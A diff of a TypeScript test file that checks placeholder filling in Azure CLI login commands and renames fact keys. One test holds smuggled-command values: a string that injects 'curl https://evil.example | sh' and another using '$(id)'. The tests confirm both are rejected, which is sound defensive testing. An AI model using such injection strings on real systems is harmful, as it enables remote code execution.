@@ -1,9 +1,9 @@
 import {describe, expect, test} from 'vitest';
+import {createScriptedServices} from '../../test/support/scripted-services.ts';
 import type {Finding} from '../findings/finding.ts';
 import {tree} from '../tree/index.ts';
 import {createSessionStore, type EngineServices} from './driver.ts';
 import {fillCommand, fillPlaceholders} from './fill.ts';
-import {createScriptedServices} from './scripted-services.ts';
 import type {Session} from './session.ts';
 import {currentNodeId} from './session.ts';
 
@@ -128,24 +128,25 @@ test('placeholders are filled from facts, unknown ones get a readable stand-in',
 	expect(fillPlaceholders('az login --tenant {subscriptionTenant} {clientId}', {})).toBe(
 		'az login --tenant <subscription-tenant-id> <client-id>',
 	);
-	// The checks' own fact names count too.
+	// A fact has one name: a claim's or a check's own name is no placeholder's value.
 	expect(
 		fillPlaceholders('{subscriptionTenant} {tokenTenant} {principalId}', {
-			subscriptionTenantId: 'b',
-			tid: 'a',
-			principalObjectId: 'p',
+			subscriptionTenant: 'b',
+			tokenTenant: 'a',
+			principalId: 'p',
 		}),
 	).toBe('b a p');
+	expect(fillPlaceholders('{tid}', {tokenTenant: 'a'})).toBe('<tid>');
 });
 
 test('a command takes a fact only when it is shell-safe; anything else shows the stand-in', () => {
 	expect(
 		fillCommand('az login --tenant {tokenTenant} --scope {audience}', {
-			tid: '72f988bf-86f1-41af-91ab-2d7cd011db47',
-			aud: 'https://management.azure.com/',
+			tokenTenant: '72f988bf-86f1-41af-91ab-2d7cd011db47',
+			audience: 'https://management.azure.com/',
 		}),
 	).toBe('az login --tenant 72f988bf-86f1-41af-91ab-2d7cd011db47 --scope https://management.azure.com/');
-	expect(fillCommand('az login --tenant {tokenTenant}', {tid: "x'; curl https://evil.example | sh; '"})).toBe(
+	expect(fillCommand('az login --tenant {tokenTenant}', {tokenTenant: "x'; curl https://evil.example | sh; '"})).toBe(
 		'az login --tenant <token-tenant-id>',
 	);
 	expect(fillCommand('az account set --subscription {subscriptionId}', {subscriptionId: '$(id)'})).toBe(
